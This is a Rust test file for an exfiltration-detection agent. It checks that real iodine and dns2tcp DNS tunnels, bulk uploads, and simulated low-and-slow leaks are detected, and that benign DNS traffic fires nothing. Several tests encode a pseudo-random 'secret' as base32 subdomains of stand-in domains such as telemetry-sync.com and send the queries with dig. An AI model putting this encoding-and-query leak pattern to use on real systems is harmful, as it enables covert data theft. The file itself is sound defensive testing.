//! Kernel tests of the detection engine: the real programs on a test cgroup,
//! real traffic and real DNS (dig through dnsmasq, and the real `iodine` and
//! `dns2tcp` tunnels, servers in the lab's peer namespace), the agent's flow
//! tracker, attribution and detectors, as the `run` loop wires them. Run as
//! root, one at a time (`--test-threads=1`).
use std::{
    net::{IpAddr, SocketAddr},
    sync::Arc,
    time::{Duration, Instant},
};

use exfilguard_agent::{
    clock,
    datapath::{Datapath, DatapathConfig, Event},
    detect::{Detection, Phase, Rule},
    engine::Engine,
    flows::FlowTracker,
    metrics::{Metrics, WorkloadLabel},
    policy::Policy,
};
use exfilguard_tests::{
    Lab, TestCgroup,
    cgroup::cgroup_root,
    dns::{self, DnsRecord, DnsServer, Transport},
    kernel_test_guard,
    traffic::{self, TcpSink},
    tunnel::{Dns2tcpClient, Dns2tcpServer, IodineClient, IodineServer},
};

/// The agent's pieces, polled by hand.
struct Agent {
    dp: Datapath,
    tracker: FlowTracker,
    engine: Engine,
    metrics: Arc<Metrics>,
}

impl Agent {
    fn attach(cg: &TestCgroup, policy: &str) -> Self {
        let dp = Datapath::load(&DatapathConfig {
            cgroup_path: cg.path().to_owned(),
            pin_dir: None,
        })
        .unwrap_or_else(|e| panic!("load datapath on {}: {e}", cg.path().display()));
        let policy = Policy::from_yaml(policy).unwrap_or_else(|e| panic!("policy: {e}"));
        let metrics = Arc::new(Metrics::new());
        Self {
            dp,
            tracker: FlowTracker::new(),
            engine: Engine::new(cgroup_root(), policy, None, metrics.clone()),
            metrics,
        }
    }

    /// One poll, as the run loop does it: flow deltas, DNS events, evaluate.
    fn poll(&mut self) -> Vec<Detection> {
        let snapshot = self.dp.flows().unwrap_or_else(|e| panic!("flows: {e}"));
        let deltas = self.tracker.update(&snapshot);
        self.engine.flows(&deltas);
        // Everything pending, as the run loop drains the ring on each wake-up.
        loop {
            let events = self.dp.drain_events(4096);
            let n = events.len();
            for ev in events {
                if let Event::Dns(r) = ev.unwrap_or_else(|e| panic!("malformed kernel event: {e}"))
                {
                    self.engine.dns(&r);
                }
            }
            if n < 4096 {
                break;
            }
        }
        self.engine.evaluate(clock::kernel_now_ns())
    }

    /// Runs `work` on another thread while polling every 100 ms (the run
    /// loop's cadence is 1 s; faster here only to keep the ring short), then
    /// polls for `settle` more. Returns what `work` returned and every
    /// detection seen.
    fn poll_while<T: Send>(
        &mut self,
        work: impl FnOnce() -> T + Send,
        settle: Duration,
    ) -> (T, Vec<Detection>) {
        let mut all = Vec::new();
        let out = std::thread::scope(|s| {
            let worker = s.spawn(work);
            while !worker.is_finished() {
                std::thread::sleep(Duration::from_millis(100));
                all.extend(self.poll());
            }
            worker
                .join()
                .unwrap_or_else(|e| std::panic::resume_unwind(e))
        });
        let until = Instant::now() + settle;
        while Instant::now() < until {
            std::thread::sleep(Duration::from_millis(100));
            all.extend(self.poll());
        }
        (out, all)
    }
}

/// A real tunnel's traffic: both DNS rules start on `domain` (the registered
/// domain of the tunnel's zone), for the test cgroup, with the server as the
/// top destination; nothing fires on anything else.
fn assert_tunnel_detected(ds: &[Detection], cg: &TestCgroup, domain: &str, server: IpAddr) {
    assert!(!ds.is_empty(), "tunnel not detected");
    for d in ds {
        assert_eq!(d.workload, workload_of(cg), "{d:#?}");
        assert!(
            matches!(d.rule, Rule::DnsTunnel | Rule::DnsExfiltration),
            "unexpected rule: {d:#?}"
        );
        assert_eq!(d.subject.as_deref(), Some(domain), "{d:#?}");
    }
    for rule in [Rule::DnsTunnel, Rule::DnsExfiltration] {
        let starts: Vec<&Detection> = ds
            .iter()
            .filter(|d| d.rule == rule && d.phase == Phase::Start)
            .collect();
        assert_eq!(starts.len(), 1, "{rule:?} starts: {ds:#?}");
        let d = starts[0];
        assert!(d.observed > d.threshold, "{d:#?}");
        let dns = d.evidence.dns.as_ref().expect("DNS evidence");
        // iodine's handshake alone (codec and fragment-size probes) can be
        // enough for the encoded-bytes rule: what matters is that it fires.
        assert!(dns.queries >= 10, "{dns:?}");
        assert!(!dns.sample_queries.is_empty(), "{dns:?}");
        for q in &dns.sample_queries {
            assert!(q.ends_with(&format!(".{domain}")), "sample {q}");
        }
        assert!(dns.max_name_len > 60, "{dns:?}");
        let top = &d.evidence.top_destinations[0];
        assert_eq!((top.addr, top.port), (server, 53), "{d:#?}");
    }
}

#[test]
fn iodine_tunnel_is_detected_on_its_domain() {
    if !kernel_test_guard(&["ip", "python3", "iodine", "iodined"]) {
        return;
    }
    let lab = Lab::new();
    let cg = TestCgroup::new();
    // The shipped defaults: a real tunnel must trip them as they are.
    let mut agent = Agent::attach(&cg, "");
    let zone = "t.iodine-tunnel.com";
    let server = IodineServer::start(lab.peer(), lab.peer_v4().into(), zone);
    // The sink listens on the server's tunnel address: only reachable through DNS.
    let sink = TcpSink::start(lab.peer(), (server.tunnel_ip(), 9200).into());
    let client = IodineClient::connect(lab.client(), &cg, lab.peer_v4().into(), zone);
    let (bytes, to) = (300_000, sink.addr());
    let (sent, ds) = agent.poll_while(
        || traffic::try_send_tcp(lab.client(), &cg, to, bytes, Duration::from_secs(60)),
        Duration::from_secs(1),
    );
    sent.unwrap_or_else(|e| {
        panic!(
            "push {bytes} B through iodine: {e}\nclient:\n{}\nserver:\n{}",
            client.log(),
            server.log()
        )
    });
    assert_eq!(
        sink.collect(1, Duration::from_secs(10)).payload_bytes,
        bytes,
        "the sink did not get the data through the tunnel"
    );
    assert_tunnel_detected(&ds, &cg, "iodine-tunnel.com", lab.peer_v4().into());
}

#[test]
fn dns2tcp_tunnel_is_detected_on_its_domain() {
    if !kernel_test_guard(&["ip", "python3", "dns2tcpc", "dns2tcpd", "ss"]) {
        return;
    }
    let lab = Lab::new();
    let cg = TestCgroup::new();
    let mut agent = Agent::attach(&cg, "");
    let zone = "d.dns2tcp-tunnel.org";
    let sink = TcpSink::start(lab.peer(), (lab.peer_v4(), 9201).into());
    let server = Dns2tcpServer::start(lab.peer(), lab.peer_v4().into(), zone, sink.addr());
    let client = Dns2tcpClient::start(lab.client(), &cg, lab.peer_v4().into(), zone, 9202);
    let local = SocketAddr::from(([127, 0, 0, 1], client.port()));
    let bytes = 200_000;
    let (sent, ds) = agent.poll_while(
        || traffic::try_send_tcp(lab.client(), &cg, local, bytes, Duration::from_secs(60)),
        Duration::from_secs(1),
    );
    sent.unwrap_or_else(|e| {
        panic!(
            "push {bytes} B through dns2tcp: {e}\nclient:\n{}\nserver:\n{}",
            client.log(),
            server.log()
        )
    });
    assert_eq!(
        sink.collect(1, Duration::from_secs(10)).payload_bytes,
        bytes,
        "the sink did not get the data through the tunnel"
    );
    assert_tunnel_detected(&ds, &cg, "dns2tcp-tunnel.org", lab.peer_v4().into());
}

fn workload_of(cg: &TestCgroup) -> String {
    let rel = cg
        .path()
        .strip_prefix(cgroup_root())
        .unwrap_or_else(|_| panic!("{} not under the cgroup root", cg.path().display()));
    format!("/{}", rel.display())
}

#[test]
fn bulk_upload_over_lowered_threshold_is_one_volume_detection() {
    if !kernel_test_guard(&["ip", "python3"]) {
        return;
    }
    let lab = Lab::new();
    let cg = TestCgroup::new();
    let mut agent = Agent::attach(
        &cg,
        "volume: {threshold_bytes: 1000000, per_destination_bytes: 1000000000000}",
    );
    let sink = TcpSink::start(lab.peer(), (lab.peer_v4(), 9100).into());
    // Below the threshold first: nothing.
    traffic::send_tcp(lab.client(), &cg, sink.addr(), 400_000);
    assert!(agent.poll().is_empty(), "fired below the threshold");
    // Across it: the very next poll reports.
    traffic::send_tcp(lab.client(), &cg, sink.addr(), 2_000_000);
    let first = agent.poll();
    let mut all = first.clone();
    for _ in 0..10 {
        std::thread::sleep(Duration::from_millis(200));
        traffic::send_tcp(lab.client(), &cg, sink.addr(), 10_000);
        all.extend(agent.poll());
    }
    assert_eq!(
        first.len(),
        1,
        "expected one detection on the first poll after crossing: {first:#?}"
    );
    assert_eq!(all.len(), 1, "re-fired or fired twice: {all:#?}");
    let d = &all[0];
    assert_eq!((d.rule, d.phase), (Rule::LargeDataTransfer, Phase::Start));
    assert_eq!(d.workload, workload_of(&cg));
    assert_eq!(d.threshold, 1_000_000.0);
    let e = &d.evidence;
    // 2.4 MB of payload plus TCP/IP headers (three connections).
    assert!(
        (2_400_000..2_600_000).contains(&e.bytes),
        "evidence bytes {}",
        e.bytes
    );
    assert_eq!(e.top_destinations.len(), 1, "{:?}", e.top_destinations);
    let top = &e.top_destinations[0];
    assert_eq!(
        SocketAddr::new(top.addr, top.port),
        SocketAddr::from((lab.peer_v4(), 9100))
    );
    assert_eq!(top.bytes, e.bytes);
    assert!(e.window_end_ns > e.window_start_ns);
    assert!(
        agent
            .metrics
            .encode()
            .contains("exfilguard_detections_total{rule=\"large_data_transfer\"} 1")
    );
}

/// RFC 4648 base32, lower case, unpadded: what DNS exfiltration tools use.
fn base32(data: &[u8]) -> String {
    const A: &[u8; 32] = b"abcdefghijklmnopqrstuvwxyz234567";
    let mut out = String::new();
    let (mut buf, mut bits) = (0u32, 0);
    for &b in data {
        buf = (buf << 8) | u32::from(b);
        bits += 8;
        while bits >= 5 {
            out.push(A[((buf >> (bits - 5)) & 31) as usize] as char);
            bits -= 5;
        }
    }
    if bits > 0 {
        out.push(A[((buf << (5 - bits)) & 31) as usize] as char);
    }
    out
}

#[test]
fn encoded_low_and_slow_leak_through_dnsmasq_is_caught() {
    if !kernel_test_guard(&["ip", "python3", "dig", "dnsmasq"]) {
        return;
    }
    let lab = Lab::new();
    let cg = TestCgroup::new();
    // 10 B/s, as the low-and-slow leak, against a threshold scaled
    // down so the test takes seconds, not minutes (the corpus tests hold the
    // default threshold to "within ten minutes").
    let mut agent = Agent::attach(&cg, "dns: {encoded_bytes: 150, window: 60s}");
    let server = DnsServer::start(
        lab.peer(),
        lab.peer_v4().into(),
        &[DnsRecord::address(
            "telemetry-sync.com",
            lab.peer_v4().into(),
        )],
    );
    let mut secret = Secret(0x2545_f491_4f6c_dd1d);
    let mut caught = None;
    let started = Instant::now();
    for i in 0..15u32 {
        let name = format!("{i:x}.{}.telemetry-sync.com", base32(&secret.take(30)));
        let out = dns::dig(
            lab.client(),
            Some(&cg),
            server.addr(),
            &name,
            "A",
            Transport::Udp,
        );
        assert!(out.contains("status: NOERROR"), "dig {name}: {out}");
        for d in agent.poll() {
            assert_eq!(d.workload, workload_of(&cg), "{d:#?}");
            if d.rule == Rule::DnsExfiltration && d.phase == Phase::Start {
                caught = Some((i, d));
            }
        }
        if caught.is_some() {
            break;
        }
        // 30 bytes every 3 s: 10 B/s.
        std::thread::sleep(Duration::from_secs(3).saturating_sub(Duration::from_millis(100)));
    }
    let (i, d) = caught.unwrap_or_else(|| panic!("leak not caught in {:?}", started.elapsed()));
    assert!(i >= 3, "fired after {i} queries: threshold too eager");
    assert_eq!(d.subject.as_deref(), Some("telemetry-sync.com"));
    assert!(d.evidence.encoded_bytes > 150);
    let dns = d.evidence.dns.as_ref().expect("DNS evidence");
    assert!(dns.sample_queries[0].ends_with(".telemetry-sync.com"));
    assert!(dns.mean_entropy > 4.0, "{dns:?}");
    assert_eq!(d.evidence.top_destinations[0].port, 53);
    assert_eq!(d.evidence.top_destinations[0].addr, server.addr());
}

/// A low-and-slow leak spread over sibling domains, each of which stays far
/// below the per-domain threshold: the workload-wide rule catches it.
///
/// Time scale: the leak runs at the 10 B/s (30 bytes of base32 every
/// 3 s, round-robin over three domains: ≈3.3 B/s each). The shipped defaults
/// are a 600 s window and `spread_encoded_bytes: 3000`, which 10 B/s crosses
/// after ≈300 s, inside the 10 minutes (the unit test
/// `spread_over_sibling_domains` holds the defaults to that). Here the
/// threshold is 1/20 of the default (150 B, crossed after ≈15 s at the same
/// rate) and the window 1/10 (60 s, still longer than the whole leak), so the
/// test takes seconds; the per-domain threshold is raised out of reach so
/// only the spread rule can fire.
#[test]
fn low_and_slow_leak_spread_over_sibling_domains_is_caught() {
    if !kernel_test_guard(&["ip", "python3", "dig", "dnsmasq"]) {
        return;
    }
    let lab = Lab::new();
    let cg = TestCgroup::new();
    let mut agent = Agent::attach(
        &cg,
        "dns: {window: 60s, encoded_bytes: 1000000, spread_encoded_bytes: 150}",
    );
    let domains = ["metrics-relay.com", "metrics-relay.net", "status-beacon.io"];
    let records: Vec<DnsRecord> = domains
        .iter()
        .map(|d| DnsRecord::address(d, lab.peer_v4().into()))
        .collect();
    let server = DnsServer::start(lab.peer(), lab.peer_v4().into(), &records);
    let mut secret = Secret(0x9e37_79b9_7f4a_7c15);
    let mut caught = None;
    let started = Instant::now();
    for i in 0..15u32 {
        let domain = domains[i as usize % domains.len()];
        let name = format!("{i:x}.{}.{domain}", base32(&secret.take(30)));
        let out = dns::dig(
            lab.client(),
            Some(&cg),
            server.addr(),
            &name,
            "A",
            Transport::Udp,
        );
        assert!(out.contains("status: NOERROR"), "dig {name}: {out}");
        for d in agent.poll() {
            assert_eq!(d.workload, workload_of(&cg), "{d:#?}");
            assert_eq!(d.rule, Rule::DnsExfiltrationSpread, "{d:#?}");
            if d.phase == Phase::Start {
                caught = Some((i, d));
            }
        }
        if caught.is_some() {
            break;
        }
        std::thread::sleep(Duration::from_secs(3).saturating_sub(Duration::from_millis(100)));
    }
    let (i, d) = caught.unwrap_or_else(|| panic!("leak not caught in {:?}", started.elapsed()));
    assert!(i >= 3, "fired after {i} queries: threshold too eager");
    assert!(d.evidence.encoded_bytes > 150, "{d:#?}");
    let dns = d.evidence.dns.as_ref().expect("DNS evidence");
    let mut seen = dns.domains.clone();
    seen.sort();
    let mut want: Vec<String> = domains.iter().map(|d| (*d).to_owned()).collect();
    want.sort();
    assert_eq!(seen, want, "{dns:?}");
    assert!(
        dns.sample_queries
            .iter()
            .all(|q| domains.iter().any(|d| q.ends_with(&format!(".{d}")))),
        "{dns:?}"
    );
}

/// A deterministic byte stream: the "secret" a test leaks.
struct Secret(u64);

impl Secret {
    fn take(&mut self, n: usize) -> Vec<u8> {
        (0..n)
            .map(|_| {
                self.0 ^= self.0 << 13;
                self.0 ^= self.0 >> 7;
                self.0 ^= self.0 << 17;
                self.0 as u8
            })
            .collect()
    }
}

#[test]
fn benign_dns_workload_produces_no_detection() {
    if !kernel_test_guard(&["ip", "python3", "dig", "dnsmasq"]) {
        return;
    }
    let lab = Lab::new();
    let cg = TestCgroup::new();
    let mut agent = Agent::attach(&cg, "");
    let server = DnsServer::start(
        lab.peer(),
        lab.peer_v4().into(),
        &[
            DnsRecord::address("example.com", lab.peer_v4().into()),
            DnsRecord::address("cloudfront.net", lab.peer_v4().into()),
        ],
    );
    let names: &[(&str, &str)] = &[
        ("www.example.com", "A"),
        ("api.example.com", "AAAA"),
        ("static.example.com", "A"),
        ("d1a2b3c4e5f6g7.cloudfront.net", "A"),
        ("d2k8j3h4g5f6s7.cloudfront.net", "A"),
        ("e12345.dscb.akamaiedge.net", "A"),
        ("payments-api.payments.svc.cluster.local", "A"),
        ("www.example.com.default.svc.cluster.local", "A"),
        ("www.example.com.svc.cluster.local", "A"),
        ("_dmarc.example.com", "TXT"),
        ("selector1._domainkey.example.com", "TXT"),
        ("_sip._tcp.example.com", "SRV"),
        ("10.1.168.192.in-addr.arpa", "PTR"),
        ("example.com", "MX"),
        ("example.com", "TXT"),
    ];
    let mut sent = 0;
    for round in 0..4 {
        for (name, qtype) in names {
            let transport = if round == 3 {
                Transport::Tcp
            } else {
                Transport::Udp
            };
            dns::dig(
                lab.client(),
                Some(&cg),
                server.addr(),
                name,
                qtype,
                transport,
            );
            sent += 1;
        }
        let ds = agent.poll();
        assert!(ds.is_empty(), "false positive: {ds:#?}");
    }
    std::thread::sleep(Duration::from_millis(300));
    let ds = agent.poll();
    assert!(ds.is_empty(), "false positive: {ds:#?}");
    // The engine saw the queries: the silence is not for lack of input.
    let seen = agent
        .metrics
        .dns_queries
        .get_or_create(&WorkloadLabel {
            workload: workload_of(&cg),
        })
        .get();
    assert_eq!(seen, sent, "queries counted for the workload");
}
